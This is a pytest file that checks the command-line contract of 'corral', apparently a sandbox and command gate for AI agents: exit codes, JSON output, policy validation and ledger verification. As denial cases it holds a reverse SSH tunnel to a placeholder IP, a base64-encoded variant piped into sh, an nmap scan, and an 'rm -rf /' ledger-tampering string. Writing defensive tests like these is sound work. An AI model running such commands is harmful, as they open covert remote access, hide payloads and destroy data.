"""The CLI contract scripts depend on: exit codes, JSON shapes, batch order, errors."""

from __future__ import annotations

import base64
import json
import sqlite3
import subprocess
from pathlib import Path

import pytest

from tests.cli import corral

SSH_TUNNEL = "ssh -fN -R 2222:localhost:22 ops@203.0.113.7"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "home"


def test_check_denies_reverse_tunnel_as_tunnel(home: Path) -> None:
    r = corral(home, "check", "--json", "--", SSH_TUNNEL)
    assert r.returncode == 1, r.stderr
    d = json.loads(r.stdout)
    assert d["decision"] == "deny" and d["category"] == "tunnel"
    assert set(d) >= {"decision", "rule", "category", "reason"}


def test_check_denies_base64_tunnel_piped_into_sh(home: Path) -> None:
    enc = base64.b64encode(SSH_TUNNEL.encode()).decode()
    r = corral(home, "check", "--json", "--", f"echo {enc} | base64 -d | sh")
    assert r.returncode == 1
    assert json.loads(r.stdout)["decision"] == "deny"


def test_check_allows_pytest_under_swe(home: Path) -> None:
    r = corral(home, "check", "--policy", "swe", "--", "pytest -q tests/")
    assert r.returncode == 0, r.stdout + r.stderr
    assert r.stdout.startswith("allow")


def test_unbalanced_quotes_deny_with_parse_reason_not_traceback(home: Path) -> None:
    r = corral(home, "check", "--json", "--", 'echo "oops')
    assert r.returncode == 1
    assert "Traceback" not in r.stderr
    d = json.loads(r.stdout)
    assert d["decision"] == "deny" and "pars" in d["reason"]


def test_batch_keeps_order_and_fields(home: Path, tmp_path: Path) -> None:
    cmds = ["ls", SSH_TUNNEL, "pytest -q", "nmap 10.0.0.1", "git status"]
    batch = "".join(json.dumps({"command": c}) + "\n" for c in cmds)
    r = corral(home, "check", "--batch", "-", stdin=batch)
    assert r.returncode == 1
    out = [json.loads(line) for line in r.stdout.splitlines()]
    assert [o["decision"] for o in out] == ["allow", "deny", "allow", "deny", "allow"]
    for o in out:
        assert {"decision", "rule", "category", "reason"} <= set(o)


def test_batch_reports_bad_lines_with_line_number(home: Path, tmp_path: Path) -> None:
    f = tmp_path / "in.jsonl"
    f.write_text('{"command": "ls"}\nnot json\n{"cmd": "x"}\n')
    r = corral(home, "check", "--batch", str(f))
    assert r.returncode == 2
    out = [json.loads(line) for line in r.stdout.splitlines()]
    assert len(out) == 3 and out[0]["decision"] == "allow"
    assert f"{f}:2" in out[1]["reason"] and f"{f}:3" in out[2]["reason"]


def test_usage_error_exits_2(home: Path) -> None:
    assert corral(home, "check").returncode == 2
    assert corral(home, "frobnicate").returncode == 2


def test_bad_policy_file_exits_2_naming_file_line_key(home: Path, tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("version: 1\ncommands:\n  defualt: allow\n")
    r = corral(home, "check", "--policy", str(bad), "--", "ls")
    assert r.returncode == 2
    assert "bad.yaml:3" in r.stderr and "defualt" in r.stderr
    assert "Traceback" not in r.stderr
    r = corral(home, "policy", "validate", str(bad))
    assert r.returncode == 2 and "bad.yaml:3" in r.stderr


def test_policy_show_prints_resolved_preset(home: Path) -> None:
    r = corral(home, "policy", "show", "swe")
    assert r.returncode == 0
    assert "network:" in r.stdout and "extends" not in r.stdout.split("network:")[0].split("\n")[0]


def test_decisions_are_recorded_and_verify(home: Path) -> None:
    corral(home, "check", "--", "ls")
    corral(home, "check", "--", SSH_TUNNEL)
    r = corral(home, "log", "--json")
    recs = [json.loads(line) for line in r.stdout.splitlines()]
    decisions = [x for x in recs if x["kind"] == "decision"]
    assert len(decisions) == 2
    body = decisions[1]["body"]
    assert body["decision"]["decision"] == "deny"
    assert body["decision"]["policy_hash"].startswith("sha256:")
    assert body["action"]["id"] == decisions[1]["action_id"]
    assert corral(home, "verify").returncode == 0


def test_verify_cli_names_first_bad_record(home: Path) -> None:
    for c in ["ls", "pwd", "git status"]:
        corral(home, "check", "--", c)
    db = home / "ledger.db"
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE records SET body = replace(body, 'pwd', 'rm -rf /') WHERE seq = 2")
    r = corral(home, "verify")
    assert r.returncode != 0
    assert "2" in r.stderr


def test_demo_runs_and_blocks_the_incident(home: Path) -> None:
    r = corral(home, "demo")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "denied" in r.stdout and "intact" in r.stdout
    # The work done for real (the package from the demo's own index), the auditor's
    # second opinion, the incident summary by layer and the HTML report.
    assert " FAIL " not in r.stdout and "install the test dependency" in r.stdout
    assert "unexpected" not in r.stdout
    assert "10 of 17 steps flagged" in r.stdout
    assert "Incident summary" in r.stdout and "stopped or flagged by layer: gate 11" in r.stdout
    reports = list((home / "reports").glob("rome-replay-*.html"))
    assert len(reports) == 1 and "Timeline of incidents" in reports[0].read_text()


BAD_POLICIES = {
    "unknown key": (
        "version: 1\nnetwork:\n  mode: none\n  alow: []\n",
        "bad.yaml:4",
        "network.alow",
    ),
    "wrong type": ("version: 1\nresources:\n  pids: many\n", "bad.yaml:3", "resources.pids"),
    "bad pattern": (
        "version: 1\ncommands:\n  rules:\n    - id: r\n      argv: '(unclosed'\n      decision: deny\n      reason: x\n",
        "bad.yaml:5",
        "commands.rules[0].argv",
    ),
    "too broad host": (
        "version: 1\nnetwork:\n  mode: proxy\n  allow: ['*.com']\n",
        "bad.yaml:4",
        "network.allow[0]",
    ),
    "extends cycle": ("version: 1\nextends: ./bad.yaml\n", "bad.yaml:2", "extends"),
    "missing file": ("version: 1\nextends: ./nowhere.yaml\n", "bad.yaml:2", "extends"),
}


@pytest.mark.parametrize("case", sorted(BAD_POLICIES))
def test_bad_policy_one_message_with_file_line_key(home: Path, tmp_path: Path, case: str) -> None:
    text, where, key = BAD_POLICIES[case]
    bad = tmp_path / "bad.yaml"
    bad.write_text(text)
    r = corral(home, "policy", "validate", str(bad))
    assert r.returncode == 2, r.stdout
    assert where in r.stderr and key in r.stderr, r.stderr
    assert "Traceback" not in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1, r.stderr


def test_exec_exit_codes(home: Path, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return corral(home, "exec", "--workspace", str(ws), *args)

    assert run("--", "exit 3").returncode == 3
    ok = run("--", "echo", "hello")
    assert ok.returncode == 0 and ok.stdout == "hello\n"
    denied = run("--policy", "swe", "--", SSH_TUNNEL)
    assert (denied.returncode == 126 and "tunnel" in denied.stderr) or "forwarding" in denied.stderr
    timed = run("--json", "--timeout", "1", "--", "sleep 20")
    assert timed.returncode == 124 and json.loads(timed.stdout)["timed_out"] is True
    blocked = run("--no-gate", "--", "echo x > /etc/corral-cli-test")
    assert blocked.returncode != 0 and "Read-only" in blocked.stderr


def test_run_streams_the_agent_and_returns_its_exit_code(home: Path, tmp_path: Path) -> None:
    r = corral(home, "run", "--workspace", str(tmp_path), "--", "echo agent-output; exit 5")
    assert r.returncode == 5 and r.stdout == "agent-output\n"
    denied = corral(home, "run", "--policy", "swe", "--workspace", str(tmp_path), "--", SSH_TUNNEL)
    assert denied.returncode == 126 and "forwarding" in denied.stderr


def test_doctor_reports_each_layer(home: Path) -> None:
    r = corral(home, "doctor", "--json")
    layers = {c["layer"]: c for c in json.loads(r.stdout)}
    assert {
        "bubblewrap",
        "user namespaces",
        "seccomp",
        "cgroups",
        "gpus",
        "ledger",
        "egress proxy",
    } <= set(layers)
    # make test installs bubblewrap and libseccomp: the essential layers must be active.
    assert (
        layers["bubblewrap"]["ok"] and layers["user namespaces"]["ok"] and layers["seccomp"]["ok"]
    )
    assert r.returncode == 0


def test_log_shows_execs_readably(home: Path, tmp_path: Path) -> None:
    corral(home, "exec", "--workspace", str(tmp_path), "--", "exit 3")
    lines = corral(home, "log").stdout.splitlines()
    execs = [ln for ln in lines if " exec " in ln]
    assert len(execs) == 1 and "exit 3" in execs[0] and "exit 3" in execs[0].split("s ", 1)[1]


def test_log_filters_by_label(home: Path) -> None:
    from corral.ledger import LabelledLedger, Ledger

    with Ledger.open(home / "ledger.db") as ledger:
        LabelledLedger(ledger, {"user_id": "u1", "owner": "alice"}).append_note("from u1")
        LabelledLedger(ledger, {"user_id": "u2", "owner": "alice"}).append_note("from u2")
        ledger.append_note("unlabelled")
    out = corral(home, "log", "--json", "--label", "user_id=u1").stdout.splitlines()
    assert [json.loads(line)["body"]["message"] for line in out] == ["from u1"]
    both = corral(home, "log", "--json", "--label", "owner=alice").stdout.splitlines()
    assert len(both) == 2
    bad = corral(home, "log", "--label", "user_id")
    assert bad.returncode == 2 and "expected KEY=VALUE" in bad.stderr
    assert corral(home, "verify").returncode == 0
